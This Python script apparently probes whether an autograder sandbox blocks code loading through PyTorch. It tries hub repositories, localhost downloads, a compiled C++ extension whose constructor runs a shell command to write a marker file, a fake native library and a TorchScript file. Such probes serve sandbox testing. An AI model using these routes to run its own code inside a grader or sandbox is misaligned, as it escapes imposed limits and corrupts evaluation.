"""Fetches and compiles code by way of torch: hub, extensions, packages, scripts, operators of a library of its own."""

import os
from pathlib import Path

import torch

SOURCE = """
#include <cstdlib>
struct Start { Start() { system("echo autograder-attack > /tmp/autograder-attack-native.txt"); } } start;
"""
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(100)


def _by_extension():
    from torch.utils import cpp_extension

    Path("attack.cpp").write_text(SOURCE, encoding="utf-8")
    cpp_extension.load("attack", ["attack.cpp"], build_directory=".")


def _by_library():
    Path("attack.so").write_bytes(ELF)
    torch.ops.load_library(os.path.abspath("attack.so"))


def _by_script():
    torch.jit.load("attack.pt")


for road in (
    lambda: torch.hub.load("autograder-attack/net:main", "net", trust_repo=True),
    lambda: torch.hub.load(".", "net", source="local"),
    lambda: torch.hub.load_state_dict_from_url("http://127.0.0.1:47811/autograder-attack.pt"),
    lambda: torch.hub.download_url_to_file("http://127.0.0.1:47811/autograder-attack", "/tmp/autograder-attack-hub"),
    _by_extension,
    _by_library,
    _by_script,
):
    try:
        road()
    except BaseException as error:
        print(type(error).__name__, str(error)[:100])
